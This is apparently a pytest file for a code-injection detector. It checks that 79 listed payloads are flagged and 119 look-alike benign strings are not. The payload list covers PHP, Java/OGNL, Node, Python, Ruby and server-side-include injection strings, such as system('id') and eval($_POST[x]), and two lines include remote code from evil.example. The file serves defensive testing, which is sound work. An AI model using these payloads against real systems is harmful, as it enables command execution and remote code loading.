"""What an interpreter would evaluate is found; code words in prose, stack traces and prices pass."""

from __future__ import annotations

import pytest

from sallygate.controls.injection.judges import code
from sallygate.controls.injection.pipeline.evidence import LIKELY, Evidence
from sallygate.controls.injection.pipeline.prefilter import Prefilter

PREFILTER = Prefilter([code.JUDGE.triggers])

ATTACKS = r"""
<?php echo 1; ?>
<?= $x ?>
<?=system('id')?>
<? system('id'); ?>
<script language="php">x</script>
system('id');
;system('id');
passthru('ls')
shell_exec("ls")
x');phpinfo();//
';phpinfo();'
${@phpinfo()}
${system('id')}
{${phpinfo()}}
assert("x");
eval($_POST[x]);
$_GET['x']
$_SERVER[HTTP_X]
$GLOBALS['x']
@eval($x($y));
file_get_contents('/srv/x')
base64_decode('eA==')
;die(md5(1));
print(`id`);
include('http://evil.example/x')
require_once "x.php";
("sys"."tem")("id")
call_user_func('system','id')
allow_url_include=1
-d allow_url_include=1
auto_prepend_file = php://input
java.lang.Runtime.getRuntime().exec("id")
new java.lang.ProcessBuilder("id")
T(java.lang.Runtime).getRuntime()
''.getClass().forName('x')
org.apache.commons.collections.functors.InvokerTransformer
com.sun.rowset.JdbcRowSetImpl
javax.script.ScriptEngineManager
class.module.classLoader.resources
#_memberAccess['x']=true
%{#a=1}
@ognl.OgnlContext@DEFAULT
(#a=@java.lang.Runtime@getRuntime())
require('child_process').exec('id')
require("fs").readFileSync('x')
process.mainModule.require('x')
process.env.SECRET
global.process.exit()
this.constructor.constructor('x')()
execSync('id')
console.log(1)
while(true){}
for(;;){}
__import__('os').system('id')
os.system('id')
subprocess.check_output(['id'])
().__class__.__bases__[0].__subclasses__()
open('/srv/x').read()
eval(compile('x','x','exec'))
exec("x")
Kernel.exec('id')
IO.popen('id').read
File.read('/srv/x')
Process.spawn('id')
%x(id)
qx(id)
use Socket;
<!--#exec cmd="id"-->
<!--#include virtual="/x"-->
<esi:include src="http://evil.example/x"/>
<%@ page import="x" %>
<% Response.Write(7) %>
Server.CreateObject("WScript.Shell")
<cfexecute name="x">
while(!false)
while(!0)
$ {a}
$a[0]()
$a()
""".strip().split("\n")

HONEST = r"""
while(!true)
while (!1);
$ { }
${}()
$a[]()
$a{}()
$a#b()
$a//b()
the system (new)
operating system(s)
operating system
the system is down; please help
exec summary
Executive (2019)
eval
evaluation (final)
include (a) and (b)
please include: name, address
require approval
print (2 copies)
echo
assert your rights
sleep (8 hours)
copy (1).pdf
mail (work)
define success
exit (left)
die (Noun)
sort (by date)
count(*)
sum(a, b)
max(1, 2)
f(x) = sin(x) + cos(y)
sin(x)
log(10)
y = abs(x - 3)
$5.00
$5 (five)
$100 (incl. VAT)
US$ 20 (approx.)
$name
$(function)
$('#a').hide()
$.ajax({url: "/a"})
${GDPR}
${USER_ID}
{{name}}
[[id]]
<b>bold</b>
<p>Hello <i>you</i></p>
<!-- comment -->
<!--[if IE]><p>x</p><![endif]-->
<?xml version="1.0"?>
<?xml version="1.0" encoding="UTF-8"?><a/>
<svg viewBox="0 0 1 1"><path d="M0 0"/></svg>
< %
50 % < 60 %
a.b{color:red}
.a::after{content:"x"}
java
Java 17
javascript
I write Java, Python and Ruby
com.example.app
com.example.MyActivity
org.example
com.android.vending
at com.example.Main.main(Main.java:5)
at foo (https://a.example/x.js:1:2)
at Object.<anonymous> (webpack:///./src/x.ts:3:4)
TypeError: x is not a function
ReferenceError: require is not defined
Traceback (most recent call last): File "x.py", line 1, in f
NameError: name 'x' is not defined
process
process payment
process.
process of elimination
the file. Read it
File: read me
open (24h)
open('door')
open source
while (we) wait
for (all)
while you wait
console
console table (oak)
new Date()
new functionality
global warming
global.a
class
class: A
class of 2024
#a
#member
@java
@user (me)
a@java.example
require
requires (some)
constructor
module
import duty
use code SAVE20
use socket wrench
10% x (y)
x%y
perl necklace
ruby ring
data:image/png;base64,iVBORw0KGgo=
memory
error
session
_ga=GA1.2.3.4
_get
name[first]
a[0]=b
""".strip().split("\n")


def judged(text: str) -> Evidence | None:
    hits = PREFILTER.hits(text).get(0)
    return code.JUDGE.judge(text, hits) if hits else None


def score_of(text: str) -> int:
    found = judged(text)
    return found.score if found is not None else 0


def test_code_is_found() -> None:
    assert len(ATTACKS) == 79
    assert [text for text in ATTACKS if score_of(text) < LIKELY] == []


def test_what_only_looks_like_it_passes() -> None:
    assert len(HONEST) == 119
    assert {text: score for text in HONEST if (score := score_of(text)) >= LIKELY} == {}


@pytest.mark.parametrize(
    ("text", "rule", "span"),
    [
        ("a <?php x", "php-tag", "<?php"),
        ("x <!--#exec cmd=y", "server-side-include", "<!--#exec"),
        ("a require('fs') b", "node", "require('fs"),
        ("a __import__ b", "python", "__import__"),
    ],
)
def test_spans_hold_what_was_found(text: str, rule: str, span: str) -> None:
    found = judged(text)
    assert found is not None
    assert (found.family, found.rule, text[found.start : found.end]) == ("code", rule, span)


@pytest.mark.parametrize("shape", ["<?", "<? ", "<script ", "system(", "system('", "phpinfo", "phpinfo(", "$", "$a", "$a[", "$a(", "${", "${a(", "$ {", "$_", "(", "('a'.", "{", "{$", ";", "; ", "=", "java.", "java.lang.", "java.a", "class.", "#", "#a=", "(#a", "require('", "process.", "console.", "while(", "for(!", "while(((", "__", "__class__", "os.", "open('", "open('/", "eval('", "file.", " %x(a", "@{[", "qx(a", "<!--#", "<%", "<%a(", "<cf", "a/*", "\x1e", "\ud800$"])  # fmt: skip
def test_hostile_shapes_of_a_whole_window_return(shape: str) -> None:
    text = (shape * 8192)[:8192]
    found = code.JUDGE.judge(text, list(range(len(code.JUDGE.triggers))))
    assert found is None or 0 <= found.start <= found.end <= len(text)
